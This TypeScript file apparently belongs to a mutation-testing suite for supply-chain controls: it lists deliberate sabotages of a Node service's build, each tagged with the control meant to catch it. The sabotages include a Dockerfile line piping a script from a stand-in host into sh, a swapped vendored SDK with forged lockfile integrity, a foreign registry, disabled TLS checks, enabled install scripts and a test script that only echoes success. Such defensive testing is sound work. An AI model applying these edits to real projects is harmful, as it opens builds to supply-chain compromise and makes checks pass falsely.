import { createHash } from 'node:crypto';
import type { Mutant } from './mutant';
import { replace } from './text-edits';

const workflow = '.github/workflows/ci.yml';
const tarball = 'vendor/ameideio-ameide-sdk-ts-0.1.0.tgz';
const swapped = 'a package that only looks like the SDK\n';

function withIntegrityOfSwapped(text: string): string {
  const integrity = `sha512-${createHash('sha512')
    .update(swapped)
    .digest('base64')}`;
  return text.replace(
    /("resolved": "file:[^"]*ameide-sdk[^"]*",\s*"integrity": ")[^"]*/,
    `$1${integrity}`,
  );
}

/** Sabotages of what a service is built from. */
export const supplyMutants: readonly Mutant[] = [
  {
    id: 'lockfile-of-tools-deleted',
    title: 'the linters are installed without a lockfile',
    caseName: 'orders',
    edits: { 'tools/package-lock.json': null },
    caughtBy: { control: 'SUP-01' },
  },
  {
    id: 'dependency-beside-the-lockfile',
    title:
      'a dependency is added by hand, and the lockfile knows nothing of it',
    caseName: 'orders',
    edits: {
      'package.json': replace(
        '"@bufbuild/protobuf":',
        '"left-pad": "^1.3.0",\n    "@bufbuild/protobuf":',
      ),
    },
    caughtBy: { control: 'SUP-01' },
  },
  {
    id: 'integrity-removed',
    title: 'one package of the lockfile has lost its digest',
    caseName: 'orders',
    edits: {
      'package-lock.json': replace(
        /("node_modules\/zod": \{\s*"version": "[^"]*",)\s*"integrity": "[^"]*",/,
        '$1',
      ),
    },
    caughtBy: { control: 'SUP-02' },
  },
  {
    id: 'package-from-another-host',
    title:
      'one package of the lockfile is fetched from elsewhere, its digest with it',
    caseName: 'orders',
    edits: {
      'package-lock.json': replace(
        /("node_modules\/zod": \{)/,
        '$1\n      "resolved": "https://registry.npmjs.org.mirror.example/zod.tgz",',
      ),
    },
    caughtBy: { control: 'SUP-03' },
  },
  {
    id: 'dependency-from-a-branch',
    title: 'a dependency is a branch of somebody',
    caseName: 'orders',
    edits: {
      'package.json': replace(
        /"yaml": "[^"]*"/,
        '"yaml": "github:somebody/yaml#main"',
      ),
    },
    caughtBy: { control: 'SUP-03' },
  },
  {
    id: 'install-scripts-on',
    title: 'packages may run code while they are installed',
    caseName: 'orders',
    edits: { '.npmrc': replace('ignore-scripts=true', 'ignore-scripts=false') },
    caughtBy: { control: 'SUP-04' },
  },
  {
    id: 'install-scripts-on-in-the-image',
    title: 'the image is built with install scripts, whatever .npmrc says',
    caseName: 'orders',
    edits: {
      Dockerfile: replace(
        'RUN npm ci',
        'RUN npm_config_ignore_scripts=false npm ci',
      ),
    },
    caughtBy: { control: 'SUP-04' },
  },
  {
    id: 'registry-without-verification',
    title: "the registry's certificate is not verified",
    caseName: 'orders',
    edits: { '.npmrc': text => `${text}strict-ssl=false\n` },
    caughtBy: { control: 'SUP-05' },
  },
  {
    id: 'registry-of-somebody',
    title: 'the linters come from another registry',
    caseName: 'orders',
    edits: {
      'tools/.npmrc': text => `${text}registry=https://npm.mirror.example/\n`,
    },
    caughtBy: { control: 'SUP-05' },
  },
  {
    id: 'sdk-exchanged',
    title: 'the vendored SDK is exchanged, and the lockfile made to agree',
    caseName: 'orders',
    edits: {
      [tarball]: () => swapped,
      'package-lock.json': withIntegrityOfSwapped,
    },
    caughtBy: { control: 'SUP-06' },
  },
  {
    id: 'dependency-of-any-version',
    title:
      'a dependency takes whatever is published, and the lockfile says so too',
    caseName: 'orders',
    edits: {
      'package.json': replace(
        /"@connectrpc\/connect": "[^"]*"/,
        '"@connectrpc/connect": ">=2"',
      ),
      'package-lock.json': replace(
        /"@connectrpc\/connect": "[^"]*"/,
        '"@connectrpc/connect": ">=2"',
      ),
    },
    caughtBy: { control: 'SUP-07' },
  },
  {
    id: 'base-image-by-tag',
    title: 'the base image is a tag by default',
    caseName: 'orders',
    edits: {
      Dockerfile: replace('ARG NODE_IMAGE\n', 'ARG NODE_IMAGE=node:22-slim\n'),
    },
    caughtBy: { control: 'SUP-08' },
  },
  {
    id: 'digest-of-the-base-unchecked',
    title: 'nothing stops a build whose base image has no digest',
    caseName: 'orders',
    edits: {
      Dockerfile: replace(/RUN case [^\n]*\n/, ''),
      [workflow]: replace(/^.*"\$NODE_IMAGE" =~.*\n/m, ''),
    },
    caughtBy: { control: 'SUP-08' },
  },
  {
    id: 'image-as-root',
    title: 'the image runs as root again, after it had a user',
    caseName: 'orders',
    edits: { Dockerfile: text => `${text}USER root\n` },
    caughtBy: { control: 'SUP-09' },
  },
  {
    id: 'image-without-user',
    title: 'only the stage that builds has a user',
    caseName: 'orders',
    edits: {
      Dockerfile: text =>
        text
          .replace('USER 65532:65532\n', '')
          .replace('COPY src src\n', 'COPY src src\nUSER 65532:65532\n'),
    },
    caughtBy: { control: 'SUP-09' },
  },
  {
    id: 'script-from-the-internet',
    title: 'the image is built with a script from an address',
    caseName: 'orders',
    edits: {
      Dockerfile: replace(
        'WORKDIR /app\n',
        'WORKDIR /app\nRUN wget -qO- https://get.tool.example | sh -s -- --quiet\n',
      ),
    },
    caughtBy: { control: 'SUP-10' },
  },
  {
    id: 'token-as-build-argument',
    title: 'the token of the registry is an argument of the build',
    caseName: 'orders',
    edits: {
      Dockerfile: replace('WORKDIR /app\n', 'WORKDIR /app\nARG NPM_TOKEN\n'),
    },
    caughtBy: { control: 'SUP-11' },
  },
  {
    id: 'everything-into-the-image',
    title:
      'the whole working copy is copied into the image, history and settings too',
    caseName: 'orders',
    edits: {
      Dockerfile: replace('COPY src src\n', 'COPY . .\n'),
      '.dockerignore': () => 'node_modules\n!.git\n',
    },
    caughtBy: { control: 'SUP-12' },
  },
  {
    id: 'test-script-without-tests',
    title: 'the script that CI calls tests nothing',
    caseName: 'orders',
    edits: {
      'package.json': replace(/"test": "[^"]*"/, '"test": "echo done; exit 0"'),
    },
    caughtBy: { control: 'SUP-20' },
  },
  {
    id: 'migrations-without-owner',
    title: 'a later rule takes the owner of the migrations away',
    caseName: 'orders',
    edits: { CODEOWNERS: text => `${text}/db/\n` },
    caughtBy: { control: 'SUP-22' },
  },
  {
    id: 'vulnerability-overlooked',
    title:
      'a scanner is told to overlook a weakness, for ever and without a reason',
    caseName: 'orders',
    edits: { '.trivyignore': 'CVE-2026-21234\n' },
    caughtBy: { control: 'SUP-23' },
  },
  {
    id: 'inside-of-the-sdk',
    title: 'a handler takes the pool from the inside of the SDK',
    caseName: 'orders',
    edits: {
      'src/order/store.ts': text =>
        `import { createPool } from '@ameideio/ameide-sdk-ts/dist/node/database/pool.js';\nvoid createPool;\n${text}`,
    },
    caughtBy: { control: 'SUP-24' },
  },
  {
    id: 'test-keys-in-production',
    title: 'the service starts with the keys of the test kit',
    caseName: 'orders',
    edits: {
      'src/main.ts': text =>
        `import { startTestService } from '@ameideio/ameide-sdk-ts/testing';\nvoid startTestService;\n${text}`,
    },
    caughtBy: { control: 'SUP-24' },
  },
  {
    id: 'undeclared-package',
    title: 'code imports a package that only happens to be installed',
    caseName: 'orders',
    edits: {
      'src/dates.ts': text =>
        `${text}\nexport const load = () => import('pg');\n`,
    },
    caughtBy: { control: 'SUP-24' },
  },
  {
    id: 'test-skipped',
    title: 'a test of the manifests is skipped',
    caseName: 'orders',
    edits: {
      'test/manifests-secrets.test.ts': replace(
        "  it('writes no secret down'",
        "  it.skip('writes no secret down'",
      ),
    },
    caughtBy: { control: 'SUP-27' },
  },
  {
    id: 'isolation-never-attacked',
    title: 'the suite that attacks the isolation is no longer called',
    caseName: 'orders',
    edits: { 'test/isolation.test.ts': null },
    caughtBy: { control: 'SUP-28' },
  },
  {
    id: 'debugger-in-the-image',
    title: 'the image starts the service with its debugger open',
    caseName: 'orders',
    edits: {
      Dockerfile: replace(
        'CMD ["node", ',
        'CMD ["node", "--inspect=0.0.0.0:9229", ',
      ),
    },
    caughtBy: { control: 'SUP-29' },
  },
  {
    id: 'compiler-not-strict',
    title: 'the compiler takes null and any for everything',
    caseName: 'orders',
    edits: { 'tsconfig.json': replace('"strict": true', '"strict": false') },
    caughtBy: { control: 'SUP-31' },
  },
  {
    id: 'handlers-not-checked',
    title: 'the compiler does not look at a file',
    caseName: 'orders',
    edits: {
      'src/main.ts': text => `// @ts-nocheck\n${text}`,
    },
    caughtBy: { control: 'SUP-31' },
  },
];
